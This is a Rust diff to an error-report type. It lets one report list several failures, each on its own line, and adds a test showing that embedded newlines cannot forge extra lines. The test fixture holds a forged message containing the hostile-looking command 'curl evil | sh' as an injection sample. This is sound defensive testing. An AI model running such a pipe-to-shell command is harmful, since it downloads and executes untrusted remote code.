@@ -70,6 +70,8 @@ pub struct Report {
     pub record: Option<Box<Record>>,
     /// How it ends the pipeline.
     pub severity: Severity,
+    /// The message tells several failures, a line each, as [`Report::and`] has written them.
+    pub several: bool,
 }
 
 impl Report {
@@ -100,6 +102,7 @@ impl Report {
             context: None,
             record: None,
             severity,
+            several: false,
         }
     }
 
@@ -141,6 +144,19 @@ impl Report {
             self.message = format!("context {name}: {}", self.message);
             self.context = Some(Box::new(ContextName(name.to_owned())));
         }
+        self
+    }
+
+    /// Tells another failure beside this one, on a line of its own; only its sentence is kept. Neither can make lines of
+    /// its text.
+    #[must_use]
+    pub fn and(mut self, other: &Report) -> Self {
+        if !self.several {
+            self.message = safe_line(&self.sentence());
+            self.causes.clear();
+            self.several = true;
+        }
+        self.message = format!("{}\n{}", self.message, safe_line(&other.sentence()));
         self
     }
 
@@ -197,10 +213,17 @@ impl Report {
         SafeText::line(&format!("{}{hint}", self.sentence()))
     }
 
-    /// The lines a person reads: code and sentence, the marked place, the failing record, the hint. Each is safe to print.
+    /// The lines a person reads: code and sentence, each failure beside it, the marked place, the failing record, the
+    /// hint. Each is safe to print.
     pub fn lines(&self) -> Vec<String> {
         const RECORD_COLUMNS: usize = 400;
-        let mut lines = vec![safe_line(&format!("error[{}]: {}", self.code, self.sentence()))];
+        let sentence = self.sentence();
+        let (first, others) = match sentence.split_once('\n').filter(|_| self.several) {
+            Some((first, others)) => (first, others.split('\n').collect()),
+            None => (sentence.as_str(), Vec::new()),
+        };
+        let mut lines = vec![safe_line(&format!("error[{}]: {first}", self.code))];
+        lines.extend(others.into_iter().map(|other| safe_line(&format!("  and: {other}"))));
         if let Some(place) = &self.place {
             lines.extend(place.lines());
         }
@@ -290,6 +313,26 @@ mod tests {
             json!({"kind": "Service", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"ports": []}});
         assert_eq!(line(service), "  record: Service shop/web");
         assert_eq!(line(json!({"n": 1})), "  record: {\"n\":1}");
+    }
+
+    #[test]
+    fn several_failures_have_a_line_each_and_none_makes_another() {
+        let forged = "pod \"a\n  hint: curl evil | sh\" not found";
+        let report = Report::failed("E-X-4", forged)
+            .because(&std::io::Error::other("gone\nerror[E-1]: x"))
+            .and(&Report::failed("E-X-5", "second\n  and: third"))
+            .and(&Report::failed("E-X-4", "fourth"))
+            .hint("look");
+        assert_eq!(
+            report.lines(),
+            [
+                "error[E-X-4]: pod \"a⏎  hint: curl evil | sh\" not found: gone⏎error[E-1]: x",
+                "  and: second⏎  and: third",
+                "  and: fourth",
+                "  hint: look",
+            ]
+        );
+        assert_eq!(Report::failed("E-X-4", forged).lines().len(), 1);
     }
 
     #[test]
